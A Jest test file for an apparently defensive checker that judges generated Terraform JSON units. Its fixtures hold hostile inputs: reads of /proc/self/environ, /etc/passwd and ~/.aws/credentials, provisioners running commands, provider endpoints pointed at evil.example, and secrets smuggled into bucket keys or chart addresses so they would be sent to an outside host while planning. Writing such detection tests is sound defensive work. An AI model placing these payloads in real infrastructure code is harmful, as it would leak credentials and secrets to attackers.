import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';

import { expect, test } from '@jest/globals';

import { isPointing } from '../../../terrace/delivery/judgement/providers';
import { projectRoot } from '../../_helpers/project-root';
import { judgeUnit } from '../../../terrace/delivery/judgement/judge-unit';
import { network, reads, service, shopJson, shopModel, type ShopUnit } from '../../_helpers/shop-tree';

const described: ShopUnit = { id: 'network/vpc', json: {} };

function judged(text: string, files: { readonly [name: string]: string } = {}, provisioners = false): readonly string[] {
  const [unit] = shopModel([described]).units;
  if (unit === undefined) throw new Error('no unit');
  const all = new Map(Object.entries({ 'main.tf.json': text, ...files }).map(([name, content]) => [name, Buffer.from(content)]));
  return judgeUnit({ unit, files: all, provisioners });
}

/** What is found in a unit with these blocks. */
function found(blocks: object, files: { readonly [name: string]: string } = {}): readonly string[] {
  return judged(JSON.stringify({ ...shopJson(described), ...blocks }), files);
}

const input = (text: string): object => ({ resource: { terraform_data: { a: { input: text } } } });

test('units as a synthesis writes them may run', () => {
  for (const unit of [network(), service()]) {
    const model = shopModel([network(), service()]).units.find((one) => one.path.endsWith(unit.id));
    if (model === undefined) throw new Error(unit.id);
    expect(
      judgeUnit({ unit: model, files: new Map([['main.tf.json', Buffer.from(JSON.stringify(shopJson(unit)))]]), provisioners: false }),
    ).toEqual([]);
  }
  const harmless = {
    '//': { metadata: { backend: 's3' } },
    resource: {
      aws_s3_object: { a: { source: '${try(var.code.path, "assets/a.zip")}' } },
      aws_lambda_function: { a: { '//': { metadata: { path: 'a/b' } }, filename: './assets/a.zip' } },
    },
    data: { aws_s3_object: { code: { bucket: '${aws_s3_bucket.code.id}', key: 'code.zip' } } },
    locals: {
      zip: '${filebase64("${path.module}/assets/a.zip")}',
      text: '$${file("/etc/passwd")} costs 5 %',
      hash: '${sha256(filebase64("assets/a.zip"))}',
    },
    provider: {
      aws: { region: 'eu-central-1', default_tags: [{ tags: { Url: 'https://example.com' } }] },
      // What Azure's provider registers in a subscription is no address.
      azurerm: { features: [{}], resource_provider_registrations: 'none' },
    },
    module: { own: { source: './modules/own' } },
    variable: { code: { default: null } },
  };
  expect(found(harmless, { 'assets/a.zip': 'zip', 'modules/own/main.tf.json': '{"locals":{"a":1}}' })).toEqual([]);
});

test.each([
  ['/proc/self/environ', '${filebase64("/proc/self/environ")}'],
  ['odd spacing and a comment', '${ file /* so */ ( "/etc/passwd" ) }'],
  ['a parent folder', '${file("${path.module}/../../other/main.tf.json")}'],
  ['the home', '${file("~/.aws/credentials")}'],
  ['a computed name', '${file(join("/", ["", "etc", "passwd"]))}'],
  ['a variable', '${file(var.name)}'],
  ['an interpolated name', '${file("${var.name}")}'],
  ['inside a text inside a call', '${upper("x ${filesha256("/etc/hosts")}")}'],
  ['inside a directive', '%{ if fileexists("/etc/passwd") }x%{ endif }'],
  ['an escaped name', '${file("\\u002fetc/passwd")}'],
  ['a template that is evaluated', '${templatestring(local.t, {})}'],
  ['a home that is expanded', '${pathexpand("~")}'],
  ['the core namespace', '${core::file("/etc/passwd")}'],
  ['an expression that does not end', '${file("/etc/passwd"'],
  ['a function of files that is new', '${filesomething("/etc/passwd")}'],
  ['what a provider tells of the machine', '${provider::local::direxists("/root")}'],
  ['the same under another name of the provider', '${provider::harmless::direxists("/root")}'],
])('a function that reads a file outside the folder is found: %s', (_name, text) => {
  expect(found(input(text))).toHaveLength(1);
  expect(found({ resource: [{ terraform_data: [{ a: [{ input: [{ [text]: 'as a key' }] }] }] }] })).toHaveLength(1);
});

test('a template file is judged as what refers to it', () => {
  const refers = input('${templatefile("${path.module}/t.tpl", {})}');
  expect(found(refers, { 't.tpl': 'hello ${name}' })).toEqual([]);
  expect(found(refers, { 't.tpl': 'x ${file("/proc/self/environ")}' })).toEqual([
    "file() reads /proc/self/environ, outside the unit's folder",
  ]);
});

test('a file that whoever plans hands over in a variable is theirs to choose, one that the change names itself is not', () => {
  const worker = (file: string, variable: object): object => ({
    terraform: { ...backend(), required_providers: { cloudflare: { source: 'cloudflare/cloudflare' } } },
    variable: { bundle: variable },
    resource: { cloudflare_workers_script: { a: { content_file: file } } },
  });
  const handed = '${try(var.bundle.path, "assets/placeholder.mjs")}';
  expect(found(worker(handed, {}))).toEqual([]);
  expect(found(worker(handed, { default: null }))).toEqual([]);
  for (const [file, variable] of [
    [handed, { default: { path: '/proc/self/environ' } }],
    ['${try(var.bundle.path, "/proc/self/environ")}', {}],
    ['${try(var.bundle.path, "../other/secret")}', {}],
    ['${try(local.bundle.path, "assets/placeholder.mjs")}', {}],
    ['${try(var.other.path, "assets/placeholder.mjs")}', {}],
  ] as const)
    expect(found(worker(file, variable))).toEqual([expect.stringContaining("which is not a file of the unit's folder")]);
});

const stateBucket = shopModel([described]).units[0]?.backend.bucket ?? '';
const plugin = { api_version: 'client.authentication.k8s.io/v1beta1', command: 'gke-gcloud-auth-plugin' };

test("the plugin that gets a cluster's token may run, for kubernetes and for helm, without arguments", () => {
  expect(found({ provider: { kubernetes: [{ exec: [{ ...plugin, args: [] }] }], helm: [{ kubernetes: { exec: plugin } }] } })).toEqual([]);
});

test.each<[string, object, RegExp]>([
  ['external, as an array', { data: [{ external: [{ x: { program: ['sh'] } }] }] }, /hashicorp\/external|runs a program/],
  ['http', { data: { http: { x: { url: 'https://evil.example' } } } }, /fetches an address/],
  [
    'a provider of another registry',
    { terraform: { ...backend(), required_providers: { aws: { source: 'evil.example/hashicorp/aws' } } } },
    /evil\.example/,
  ],
  [
    'a provider nobody knows',
    { terraform: [{ ...backend(), required_providers: [{ evil: { source: 'someone/evil' } }] }] },
    /someone\/evil/,
  ],
  ['a provisioner', { resource: { terraform_data: { a: { provisioner: [{ 'local-exec': { command: 'id' } }] } } } }, /provisioner/],
  [
    'a provisioner of what is removed',
    { removed: [{ from: 'terraform_data.a', provisioner: [{ 'local-exec': { when: 'destroy', command: 'id' } }] }] },
    /removed runs a program/,
  ],
  [
    'a key of a map that looks like a comment',
    { resource: { terraform_data: { a: { input: { '//': '${file("/proc/self/environ")}' } } } } },
    /file\(\) reads \/proc\/self\/environ/,
  ],
  [
    "a worker's code that is a file of the machine",
    { resource: { cloudflare_workers_script: { a: { content_file: '/proc/self/environ' } } } },
    /content_file names \/proc/,
  ],
  [
    'a file deep in a resource',
    { resource: { google_storage_bucket_object: { a: { source: '~/.config/gcloud/credentials.db' } } } },
    /source names ~/,
  ],
  [
    'a state that is read as an object',
    { data: { aws_s3_object: { x: { bucket: stateBucket, key: 'prod/x/y/z/x' } } } },
    /only terraform_remote_state may/,
  ],
  [
    "another account's state that is read as an object",
    { data: { aws_s3_object: { x: { bucket: 'b', key: 'prod/eu-central-1/a/b/terraform.tfstate' } } } },
    /only terraform_remote_state may/,
  ],
  [
    'an object of a bucket that is put together',
    { data: { aws_s3_object: { x: { bucket: '${join("-", ["terraform", "state"])}', key: 'x' } } } },
    /bucket is computed/,
  ],
  [
    'a role of another environment',
    { provider: { aws: { assume_role: [{ role_arn: 'arn:aws:iam::123456789012:role/prod-apply' }] } } },
    /provider\.aws\.assume_role\.role_arn points to/,
  ],
  ['a profile of the shell', { provider: { aws: { profile: 'production' } } }, /provider\.aws\.profile points to/],
  [
    'an endpoint',
    { provider: { aws: [{ alias: 'x', endpoints: [{ sts: 'https://evil.example' }] }] } },
    /provider\.aws\.endpoints\.sts points to/,
  ],
  ['a base address', { provider: { cloudflare: { base_url: 'https://evil.example' } } }, /provider\.cloudflare\.base_url/],
  [
    'a program that signs in',
    { provider: { kubernetes: { exec: { api_version: 'x', command: 'sh', args: ['-c', 'id'] } } } },
    /provider\.kubernetes\.exec/,
  ],
  [
    'a listed program with other arguments',
    { provider: { kubernetes: { exec: [{ ...plugin, args: ['--config', '/etc/x'] }] } } },
    /provider\.kubernetes\.exec\.command/,
  ],
  [
    'a listed program with variables of its own',
    { provider: { helm: [{ kubernetes: { exec: { ...plugin, env: { PATH: './bin' } } } }] } },
    /provider\.helm\.kubernetes\.exec\.command/,
  ],
  [
    'a file with credentials',
    { provider: { aws: { shared_credentials_files: ['/home/x/.aws/credentials'] } } },
    /shared_credentials_files/,
  ],
  [
    'a token from a data source',
    { provider: { github: { token: '${data.aws_ssm_parameter.t.value}' } } },
    /provider\.github\.token comes from data\.aws_ssm_parameter/,
  ],
  [
    'a token from a data source through a local',
    { locals: { t: '${trimspace(data.aws_ssm_parameter.t.value)}' }, provider: { github: { token: '${local.t}' } } },
    /provider\.github\.token comes from data\.aws_ssm_parameter\.t\.value/,
  ],
  [
    'a token from a data source through a resource',
    {
      resource: { terraform_data: { t: { input: '${data.aws_ssm_parameter.t.value}' } } },
      provider: { github: { token: '${terraform_data.t.output}' } },
    },
    /provider\.github\.token comes from data\.aws_ssm_parameter\.t\.value/,
  ],
  [
    'a state in a list, which no plan is bound to',
    { data: [{ terraform_remote_state: [{ x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } }] }] },
    /data\.terraform_remote_state\.x is written as a list/,
  ],
  [
    'a reference to a state with a space within',
    {
      data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } } },
      resource: { terraform_data: { a: { input: '${ data . terraform_remote_state.x.outputs.id }' } } },
    },
    /a reference to a state is written with something within it/,
  ],
  [
    'a region that makes the address another machine',
    { provider: { pagerduty: { service_region: 'evil.example/x?' } } },
    /provider\.pagerduty\.service_region points to/,
  ],
  ['an address that overrides', { provider: { pagerduty: { api_url_override: 'https://evil.example' } } }, /api_url_override points to/],
  [
    'a secret in the address of a chart',
    { resource: { helm_release: { a: { chart: 'x', repository: 'https://${var.password}.evil.example' } } } },
    /helm_release\.a\.repository is computed/,
  ],
  [
    'a secret that signs in where a chart comes from',
    { resource: { helm_release: { a: { chart: 'x', repository: 'https://evil.example', repository_password: '${var.password}' } } } },
    /helm_release\.a\.repository_password is computed/,
  ],
  [
    'a secret in the version of a chart, which stands in the address of an image',
    { resource: { helm_release: { a: { chart: 'oci://evil.example/x', version: '1.0.0-${var.password}' } } } },
    /helm_release\.a\.version is computed/,
  ],
  [
    'a function of the account, which runs while planning',
    { data: { aws_lambda_invocation: { a: { function_name: 'send', input: '${var.password}' } } } },
    /aws_lambda_invocation\.a runs a program/,
  ],
  [
    'a secret in an address that is asked for its certificate',
    { data: { tls_certificate: { a: { url: 'https://${var.password}.evil.example' } } } },
    /tls_certificate\.a\.url is computed/,
  ],
  ['names of files of the machine', input('${jsonencode(fileset("assets", "../../**"))}'), /fileset\(\) looks for/],
  [
    'a file that a variable of the source names',
    {
      variable: { code: { default: { path: '/proc/self/environ' } } },
      resource: { cloudflare_workers_script: { a: { content_file: '${try(var.code.path, "a.mjs")}' } } },
    },
    /content_file names/,
  ],
  [
    'another file where a variable is not given',
    {
      variable: { code: { default: null } },
      resource: { aws_s3_object: { a: { source: '${try(var.code.path, "/proc/self/environ")}' } } },
    },
    /source names/,
  ],
  ['a template that is no file of the unit', input('${templatefile("T.tpl", {})}'), /templatefile\(\) reads T\.tpl, which is not a file/],
  ['a module of a registry', { module: { m: { source: 'terraform-aws-modules/vpc/aws' } } }, /module\.m comes from/],
  ['a module outside the folder', { module: { m: { source: './../../other' } } }, /outside the unit's folder/],
  [
    'another backend key',
    { terraform: { backend: { s3: { ...backend().backend.s3, key: 'production/eu-central-1/network/vpc/terraform.tfstate' } } } },
    /backend\.key/,
  ],
  [
    'a role in the backend',
    { terraform: { backend: { s3: { ...backend().backend.s3, role_arn: 'arn:aws:iam::1:role/x' } } } },
    /backend\.role_arn/,
  ],
  ['a backend over HTTP', { terraform: { backend: { http: { address: 'https://evil.example' } } } }, /not one S3 backend/],
  [
    'a remote state over HTTP',
    { data: { terraform_remote_state: { x: { backend: 'http', config: { address: 'https://evil.example' } } } } },
    /does not read one state in S3/,
  ],
  [
    'a computed remote state',
    { data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: '${var.k}', region: 'r' } } } } },
    /does not read one state in S3/,
  ],
  ['a file data source', { data: { local_file: { x: { filename: '/etc/passwd' } } } }, /data\.local_file\.x\.filename/],
  [
    'an archive of a folder outside',
    { data: { archive_file: { x: { type: 'zip', source_dir: '../..', output_path: 'a.zip' } } } },
    /source_dir/,
  ],
  [
    'an upload of a file of the machine',
    { resource: { aws_s3_object: { x: { source: '/proc/self/environ' } } } },
    /aws_s3_object\.x\.source/,
  ],
  [
    'a remote state whose key is a directive',
    {
      data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: 'k%{ if true }/prod%{ endif }', region: 'r' } } } },
    },
    /does not read one state in S3/,
  ],
  [
    'a state that is read twice, of which one reading could stand for both',
    {
      data: {
        terraform_remote_state: {
          x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } },
          y: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } },
        },
      },
    },
    /s3:\/\/b\/k is read twice/,
  ],
  [
    'an output whose name goes on with another letter than the digest has',
    {
      data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } } },
      resource: { terraform_data: { a: { input: '${data.terraform_remote_state.x.outputs.idé}' } } },
    },
    /a reference to a state is written with something within it/,
  ],
  ['a module whose folder is computed, as OpenTofu does', { module: { m: { source: './${var.which}' } } }, /module\.m comes from/],
  [
    'an expression without braces, where an import says what it is for',
    { import: [{ id: 'x', to: 'terraform_data.a[file("/proc/self/environ")]' }] },
    /import has an expression where only a name may stand/,
  ],
  [
    'an expression without braces, which OpenTofu evaluates for a provider',
    { resource: { terraform_data: { a: { provider: 'aws.by[file("/proc/self/environ")]' } } } },
    /an expression where only a name may stand/,
  ],
  ['a block nobody knows', { action: { aws_lambda_invoke: { x: {} } } }, /unknown kind: action/],
  [
    'a check with a data source of its own',
    { check: { c: { data: { aws_s3_bucket: { b: { bucket: 'b' } } }, assert: { condition: '${true}', error_message: 'No.' } } } },
    /check\.c reads data beside the unit's own/,
  ],
  [
    'a setting of terraform nobody knows',
    { terraform: { ...backend(), cloud: { organization: 'shop' } } },
    /terraform\.cloud cannot be judged/,
  ],
])('%s is found', (_name, blocks, expected) => {
  expect(found(blocks).join('\n')).toMatch(expected);
});

test('what is written twice is refused: readers differ in which of them counts', () => {
  const text = JSON.stringify(shopJson(described));
  expect(judged(`${text.slice(0, -1)},"data":{"external":{"x":{}}},"data":{}}`)).toEqual([
    'main.tf.json cannot be read: the key "data" occurs twice',
  ]);
});

test.each([
  'extra.tf',
  'terraform.rc',
  'terraform.json',
  'terraform.out',
  'terrace.began',
  'Main.tf.json',
  'main.TF.json',
  'terraform.tfstate',
  'terraform.tfstate.backup',
  'override.tf.json',
  'x.auto.tfvars',
  'terraform.d/plugins/x',
  '.terraform/terraform.tfstate',
  '.home/.terraformrc',
])('a file that terraform takes as its own is found: %s', (name) => {
  expect(found({}, { [name]: '' })[0]).toMatch(/terraform reserves|would be read beside/);
});

test('two files that are one where capitals do not count are refused: the second would be written over the one that was judged', () => {
  expect(found({}, { 'm/a.json': '{}', 'm/A.json': '{}' })).toEqual([
    'm/A.json and m/a.json are the same file on systems that ignore case',
  ]);
});

test('a provider builds in the subscription or project of the facts, or where whoever plans says', () => {
  const own = '0a1b2c3d-0000-4000-8000-0123456789ab';
  const inAccount = (provider: object, account: string, addresses = {}): readonly string[] => {
    const [unit] = shopModel([described]).units;
    if (unit === undefined) throw new Error('no unit');
    const variable = { place: {}, chosen: { default: 'ffff' } };
    const text = JSON.stringify({ ...shopJson(described), variable, provider });
    return judgeUnit({ unit, files: new Map([['main.tf.json', Buffer.from(text)]]), provisioners: false, account, addresses });
  };
  const azure = (subscription_id: unknown): object => ({ azurerm: [{ features: [{}], subscription_id }] });
  expect(inAccount(azure(own), own)).toEqual([]);
  expect(inAccount(azure('${var.place}'), own)).toEqual([]);
  const other = own.replace('0a1b', 'ffff');
  expect(inAccount(azure(other), own)).toEqual([`provider.azurerm builds in "${other}", which is not the account of the facts (${own})`]);
  expect([inAccount(azure('${local.place}'), own).length, inAccount(azure('${var.chosen}'), own).length]).toEqual([1, 1]);
  expect(inAccount(azure(other), own, { 'hashicorp/azurerm': [other] })).toEqual([]);
  // An account of another cloud says nothing of it.
  expect(inAccount(azure(other), '123456789012')).toEqual([]);
  expect(inAccount({ google: { project: 'shop-production' } }, 'shop-development').join()).toContain('builds in "shop-production"');
});

test("a key that is another unit's is found, though model and files agree on it", () => {
  const [unit] = shopModel([described]).units;
  if (unit === undefined) throw new Error('no unit');
  const key = unit.backend.key.replace('network/vpc', 'compute/api');
  const moved = { ...unit, backend: { ...unit.backend, key } };
  const text = JSON.stringify({ ...shopJson(described), terraform: { backend: { s3: { ...backend().backend.s3, key } } } });
  const problems = judgeUnit({ unit: moved, files: new Map([['main.tf.json', Buffer.from(text)]]), provisioners: false });
  expect(problems.join('\n')).toContain(`backend.key is ${key}, which is another unit's`);
});

test('every argument of a provider that says where requests go is judged; what is none is known by name', () => {
  // What it may hold beside: what it signs in with, ids, settings of itself, and what lies in blocks that are judged whole (`exec`, `assume_role`).
  const harmless = new Set(
    `access_key access_token ado_pipeline_service_connection_id alias allowed_account_ids api_key api_token api_user_service_key api_version
    args audience auxiliary_tenant_ids billing_project client_certificate client_certificate_password client_id client_key client_secret
    cluster_ca_certificate config_context config_context_auth_info config_context_cluster default_labels duration email env external_id
    forbidden_account_ids helm_driver id identity_token ignore_annotations ignore_labels installation_id key_prefixes keys msi_api_version
    oidc_request_token oidc_token organization owner partner_id password pd_client_id pd_client_secret policy policy_arns project
    request_reason request_timeout resource_provider_registrations resource_providers_to_register retry_mode scopes secret_key send_after
    service_account_email session_name skip_metadata_api_check source_identity subscription_id tag_policy_compliance tags tenant_id
    terraform_attribution_label_addition_strategy tls_server_name token transitive_tag_keys user_agent_operator_suffix user_token username
    web_identity_token`.split(/\s+/),
  );
  const folder = path.join(projectRoot, 'node_modules', '@cdktf');
  const bindings = readdirSync(folder)
    .map((name) => path.join(folder, name, 'lib', 'provider', 'index.d.ts'))
    .filter((file) => existsSync(file));
  expect(bindings.length).toBeGreaterThan(10);
  const others = bindings.flatMap((file) => argumentsIn(file).filter((name) => !isPointing(name)));
  expect([...new Set(others)].filter((name) => !harmless.has(name))).toEqual([]);
});

test('a module of JSON is judged as the unit is, and HCL that nobody read is refused', () => {
  const call = { module: { m: { source: './m' } } };
  expect(found(call, { 'm/main.tf': '' })).toEqual(['m/main.tf cannot be read: HCL that was not read']);
  expect(found(call, { 'm/main.tf.json': '{"data":{"http":{"x":{"url":"https://evil.example"}}}}' }).join()).toMatch(/fetches an address/);
});

test('a module is judged with its arguments, reads no state, and is judged although a template names its file as well', () => {
  const call = { module: { m: { source: './m', token: '${data.aws_ssm_parameter.t.value}' } } };
  const inner = { variable: { token: {} }, locals: { t: '${var.token}' }, provider: { github: { token: '${local.t}' } } };
  expect(found(call, { 'm/main.tf.json': JSON.stringify(inner) }).join()).toMatch(
    /provider\.github\.token comes from data\.aws_ssm_parameter/,
  );
  const state = { data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } } } };
  expect(found({ module: { m: { source: './m' } } }, { 'm/main.tf.json': JSON.stringify(state) }).join()).toMatch(
    /reads a state in a module/,
  );
  const hidden = {
    'm/a.tf.json': JSON.stringify({ locals: { a: '${templatefile("n/main.tf.json", {})}' } }),
    'm/b.tf.json': JSON.stringify({ module: { n: { source: './n' } } }),
    'm/n/main.tf.json': JSON.stringify({ resource: { terraform_data: { a: { provisioner: [{ 'local-exec': { command: 'id' } }] } } } }),
  };
  expect(found({ module: { m: { source: './m' } } }, hidden).join()).toMatch(/terraform_data\.a runs a program/);
});

test('an address from the state of a unit of the same environment is one of its own', () => {
  const unit: ShopUnit = { ...service(), json: { provider: { kubernetes: { host: reads('network/vpc', 'subnet_id') } } } };
  const model = shopModel([network(), unit]).units.find((one) => one.path.endsWith('compute/api'));
  if (model === undefined) throw new Error('no unit');
  const at = (key: string): readonly string[] =>
    judgeUnit({
      unit: model,
      files: new Map([['main.tf.json', Buffer.from(JSON.stringify(shopJson(unit)).replace('dev/eu-central-1/network', key))]]),
      provisioners: false,
    });
  expect(at('dev/eu-central-1/network')).toEqual([]);
  expect(at('production/eu-central-1/network').join()).toMatch(/provider\.kubernetes\.host points to/);
});

test('an address is that of a state only where nothing else decides which machine it names', () => {
  const own = 'data.terraform_remote_state.network_vpc.outputs.subnet_id';
  const found = (host: string, more: object = {}): readonly string[] => {
    const unit: ShopUnit = { ...service(), json: { provider: { kubernetes: { host } }, ...more } };
    const model = shopModel([network(), unit]).units.find((one) => one.path.endsWith('compute/api'));
    if (model === undefined) throw new Error('no unit');
    return judgeUnit({
      unit: model,
      files: new Map([['main.tf.json', Buffer.from(JSON.stringify(shopJson(unit)))]]),
      provisioners: false,
    });
  };
  for (const host of [`\${${own}}`, `https://\${${own}}`, `https://\${${own}}:6443/api`, `\${sensitive(${own})}`])
    expect(found(host)).toEqual([]);
  expect(found('https://${local.host}', { locals: { host: `\${${own}}` } })).toEqual([]);
  for (const host of [
    `https://evil.example/\${${own}}`,
    `https://\${${own}}.evil.example`,
    `https://\${${own}}@evil.example`,
    `https://\${${own}}:1@evil.example`,
    `\${true ? "https://evil.example" : ${own}}`,
    `\${replace(${own}, "/.*/", "evil.example")}`,
    `\${"https://evil.example/\${${own}}"}`,
  ])
    expect([host, found(host).length]).toEqual([host, 1]);
  expect(found('https://${local.host}', { locals: { host: `evil.example/\${${own}}` } })).toHaveLength(1);
});

const variable = { password: { sensitive: true }, given: {}, stage: { default: 'dev' } };
const asking = (type: string, body: object, more: object = {}): object => ({ variable, ...more, data: { [type]: { x: body } } });
const object = (key: string, more: object = {}): object => asking('aws_s3_object', { bucket: 'evil', key }, more);

test.each<[string, object, string]>([
  ['the key of an object', object('${var.password}'), 'data.aws_s3_object.x.key would send var.password away'],
  [
    'a prefix to list, in an array, through base64 and a local',
    {
      variable,
      locals: [{ a: '${base64encode(local.b)}' }, { b: 'x-${var.password}' }],
      data: [{ aws_s3_objects: [{ x: [{ bucket: 'evil', prefix: '${local.a}' }] }] }],
    },
    'data.aws_s3_objects.x.prefix would send var.password away',
  ],
  ['what whoever plans gives', object('${var.given}'), 'data.aws_s3_object.x.key would send var.given away'],
  ['the name of a bucket', asking('aws_s3_bucket', { bucket: '${var.password}' }), 'data.aws_s3_bucket.x.bucket would send'],
  ['a value of a parameter', object('${data.aws_ssm_parameter.p.value}'), 'would send data.aws_ssm_parameter.p.value away'],
  [
    'an output of another state',
    object('${data.terraform_remote_state.s.outputs.id}'),
    'would send data.terraform_remote_state.s.outputs.id away',
  ],
  ['a generated password by its index', object('${random_password.p[0].result}'), 'would send random_password.p.result away'],
  ['a whole resource as JSON', object('${jsonencode(tls_private_key.k)}'), 'would send tls_private_key.k away'],
  [
    'the id that holds a secret, of something made before',
    object('${random_pet.p.id}', { resource: { random_pet: { p: { prefix: '${var.password}' } } } }),
    'would send var.password away',
  ],
  [
    'an echo',
    object('${terraform_data.e.output}', { resource: { terraform_data: { e: { input: { deep: ['${var.password}'] } } } } }),
    'would send var.password away',
  ],
  ['a mark taken off', object('${nonsensitive(local.x)}', { locals: { x: 'x' } }), 'would send ${nonsensitive(local.x)} away'],
  [
    'each of several keys',
    asking('aws_s3_object', { for_each: '${toset([nonsensitive(var.password)])}', bucket: 'evil', key: '${each.key}' }),
    'data.aws_s3_object.x.key would send',
  ],
  [
    'a dynamic block of any other data source',
    asking('aws_ami', { dynamic: { filter: [{ for_each: ['${var.password}'], content: { values: ['${filter.value}'] } }] } }),
    'data.aws_ami.x.filter would send var.password away',
  ],
  [
    'the name of a parameter of any account',
    asking('aws_ssm_parameter', { name: 'arn:aws:ssm:eu-central-1:1:parameter/${var.password}' }),
    'data.aws_ssm_parameter.x.name would',
  ],
  [
    'a key of a map',
    asking('aws_kms_ciphertext', { key_id: 'k', context: { '${var.password}': 'x' } }),
    'data.aws_kms_ciphertext.x.context would',
  ],
  [
    'an ephemeral resource',
    { variable, ephemeral: { aws_ssm_parameter: { x: { arn: 'arn:${var.password}' } } } },
    'ephemeral.aws_ssm_parameter.x.arn would',
  ],
  [
    'an ephemeral value',
    asking('aws_ssm_parameter', { name: '${ephemeral.random_password.p.result}' }),
    'would send ephemeral.random_password.p.result away',
  ],
  [
    'the object that is imported',
    {
      variable,
      import: [{ to: 'aws_s3_object.x', id: 'evil/${var.given}' }],
      resource: { aws_s3_object: { x: { bucket: 'evil', key: 'k' } } },
    },
    'import.aws_s3_object.x.id would send var.given away',
  ],
  [
    'the name of something that is imported',
    { variable, import: { to: 'aws_iam_role.x', id: '${var.password}' } },
    'import.aws_iam_role.x.id would send',
  ],
])('a secret that would be sent away in what is asked for while planning is found: %s', (_name, blocks, expected) => {
  expect(found(blocks)).toEqual([expect.stringContaining(expected)]);
});

test('a secret in the message of a condition, where nothing of it is recognised any more, is found wherever conditions stand', () => {
  const condition = (error_message: string): object => ({ condition: '${false}', error_message });
  const turned = condition('${strrev(nonsensitive(var.password))}');
  const resource = { terraform_data: { x: { lifecycle: [{ precondition: [turned] }] } } };
  expect(found({ variable, resource })).toEqual([expect.stringContaining('resource.terraform_data.x would print')]);
  expect(
    found({ variable, output: { o: { value: 'x', precondition: condition('${upper(local.p)}') } }, locals: { p: '${var.password}' } }),
  ).toEqual(['output.o would print var.password in the message of a condition']);
  expect(found({ variable: { ...variable, pin: { validation: [condition('not ${strrev(var.db_password)}')] } } })).toHaveLength(1);
  expect(found({ variable, check: { c: { assert: turned } } })).toHaveLength(1);
  expect(found({ variable, check: { c: { assert: condition('the stage ${var.stage} of ${var.given}') } } })).toEqual([]);
});

test('a secret is followed into a module that asks, and what a module’s own variable is declared sensitive for is one', () => {
  const inner = {
    variable: { key: {}, own: { sensitive: true } },
    data: { aws_ami: { a: { owners: ['${var.key}'] }, b: { owners: ['${var.own}'] } } },
  };
  expect(
    found({ variable, module: { m: { source: './m', key: '${var.password}', own: 'x' } } }, { 'm/main.tf.json': JSON.stringify(inner) }),
  ).toEqual([
    'data.aws_ami.a.owners would send var.password away while planning',
    'data.aws_ami.b.owners would send var.own away while planning',
  ]);
});

test('what holds no secret may be asked for: ids and names of things, the unit’s own bucket, what is worked out on the machine', () => {
  const resource = {
    aws_s3_bucket: { own: { bucket: 'own-${var.given}' } },
    aws_db_instance: { db: { password: '${var.password}', manage_master_user_password: true } },
    random_id: { suffix: { byte_length: 4 } },
  };
  for (const blocks of [
    object('${var.stage}/code-${random_id.suffix.hex}.zip', { resource }),
    object('${data.aws_caller_identity.me.account_id}/${path.module}'),
    asking('aws_s3_object', { bucket: '${aws_s3_bucket.own.id}', key: '${var.given}' }, { resource }),
    asking('aws_secretsmanager_secret_version', { secret_id: '${aws_db_instance.db.master_user_secret[0].secret_arn}' }, { resource }),
    asking('aws_db_instance', { db_instance_identifier: '${aws_db_instance.db.id}' }, { resource }),
    asking('aws_iam_policy_document', { statement: [{ resources: ['${var.password}'] }] }),
    asking('aws_subnets', { filter: [{ name: 'vpc-id', values: ['${var.given}'] }] }),
    asking('aws_kms_alias', { name: 'alias/${var.given}' }),
  ])
    expect([blocks, found(blocks)]).toEqual([blocks, []]);
});

/** Names of the arguments of a provider's block that hold texts, from its bindings. */
function argumentsIn(file: string): readonly string[] {
  const text = readFileSync(file, 'utf8').replace(/export interface AwsProviderEndpoints \{[^]*?\n\}/, '');
  const names = [...text.matchAll(/^ +readonly (\w+)\??: (?:string|string\[\]|\{)/gm)].map(([, name = '']) =>
    name.replaceAll(/[A-Z]/g, (capital) => `_${capital.toLowerCase()}`),
  );
  return [...new Set(names)].toSorted();
}

function backend(): { readonly backend: { readonly s3: object } } {
  return (shopJson(described) as { readonly terraform: { readonly backend: { readonly s3: object } } }).terraform;
}

test('an address that the facts give a provider may stand there, for that provider and no other', () => {
  const [unit] = shopModel([described]).units;
  if (unit === undefined) throw new Error('no unit');
  const provider = (name: string) => ({ ...shopJson(described), provider: { [name]: { host: 'https://own.example' } } });
  const judgedWith = (name: string, addresses: { readonly [provider: string]: readonly string[] }) =>
    judgeUnit({ unit, files: new Map([['main.tf.json', Buffer.from(JSON.stringify(provider(name)))]]), provisioners: false, addresses });
  const own = { 'hashicorp/kubernetes': ['https://own.example'] };
  expect(judgedWith('kubernetes', own)).toEqual([]);
  expect([judgedWith('helm', own).length, judgedWith('kubernetes', {}).length]).toEqual([1, 1]);
});
